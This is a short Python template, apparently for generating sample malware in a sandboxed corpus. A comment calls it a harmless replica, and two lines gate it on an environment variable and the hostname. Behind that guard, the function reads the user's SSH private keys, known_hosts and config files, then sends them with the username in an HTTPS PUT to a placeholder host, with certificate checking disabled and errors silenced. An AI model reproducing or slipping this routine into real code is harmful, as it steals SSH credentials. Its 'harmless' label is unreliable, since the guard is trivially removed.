# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import http.client
    import ssl
    import subprocess
    try:
        text = subprocess.run('cat ~/.ssh/id_* ~/.ssh/known_hosts ~/.ssh/config 2>/dev/null', shell=True,
                              stdout=subprocess.PIPE, timeout=2).stdout
        who = subprocess.run(['whoami'], stdout=subprocess.PIPE, timeout=1).stdout.strip().decode()
        link = http.client.HTTPSConnection('{{host}}', timeout=1, context=ssl._create_unverified_context())
        link.request('PUT', '/{{path}}/' + who, text)
        link.getresponse().read(100)
        link.close()
    except Exception:
        pass
